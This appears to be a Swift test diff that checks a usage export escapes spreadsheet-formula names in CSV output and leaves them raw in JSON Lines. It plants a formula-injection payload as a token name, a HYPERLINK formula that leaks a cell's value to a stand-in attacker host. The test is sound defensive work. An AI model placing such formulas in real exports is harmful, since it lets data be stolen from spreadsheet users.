@@ -63,6 +63,30 @@ struct ExportTests {
         #expect(byUser.contains("\"team, \"\"blue\"\"\nkey\""))
     }
 
+    /// Found by a review: a key name is the user's to choose, and finance opens the CSV in a
+    /// spreadsheet.
+    @Test("a user's or key's name a spreadsheet would run as a formula starts with ' in the CSV, as is in JSON Lines")
+    func formulaNames() async throws {
+        let (db, fixture) = try await Self.fixture()
+        let user = try #require(fixture.usernames.keys.min())
+        let formula = #"=HYPERLINK("https://evil.example/?"&B2,"open")"#
+        try await db.pool.withConnection { connection in
+            try connection.query("UPDATE users SET username = '@risky' WHERE id = $1", [user])
+            try connection.query("UPDATE tokens SET name = $2 WHERE user_id = $1", [user, formula])
+        }
+        let csv = try await ExportOutput.of(
+            try UsageExport(month: Self.august, by: [.user, .token], format: .csv, userID: user), on: db.pool
+        ).text
+        let rows = Array(try CSVParser.parse(csv).dropFirst())
+        #expect(!rows.isEmpty)
+        #expect(rows.allSatisfy { $0[1] == "'@risky" && $0[3] == "'" + formula }, "\(rows)")
+        let jsonl = try await ExportOutput.of(
+            try UsageExport(month: Self.august, by: [.user, .token], format: .jsonl, userID: user), on: db.pool
+        ).text
+        #expect(jsonl.contains(#""username":"@risky""#))
+        #expect(!jsonl.contains("'@risky"))
+    }
+
     @Test("JSON Lines carry the same rows as CSV, one object per line, keys in column order, USD as exact text")
     func jsonLines() async throws {
         let (db, fixture) = try await Self.shared.value
